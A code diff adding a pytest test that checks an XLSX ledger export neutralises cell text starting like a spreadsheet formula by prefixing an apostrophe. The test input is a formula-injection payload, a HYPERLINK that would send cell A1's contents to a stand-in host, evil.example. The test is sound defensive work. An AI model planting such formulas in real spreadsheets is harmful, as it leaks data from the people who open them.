@@ -449,3 +449,18 @@ def test_request_action_refuses_enterprise_users_and_unmasking_by_clerks(member,
     with pytest.raises(PermissionDeniedError):
         actions.ledger_export_request(actor=clerk, unmask=True, **kwargs)
     assert not LedgerExport.objects.exists()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_text_that_would_start_a_formula_is_written_as_text(start):
+    # Given a problem title an enterprise typed, starting like a formula
+    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    buffer = io.BytesIO()
+    # When it is written into a ledger
+    exports.write_xlsx(buffer, sheet_title="台账", header=["标题", "备注"], rows=[[title, "普通文字"]])
+    # Then the cell is text behind an apostrophe, never a formula; ordinary text is untouched
+    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
+    cell = sheet["A2"]
+    assert cell.data_type == "s"
+    assert cell.value == "'" + title
+    assert sheet["B2"].value == "普通文字"
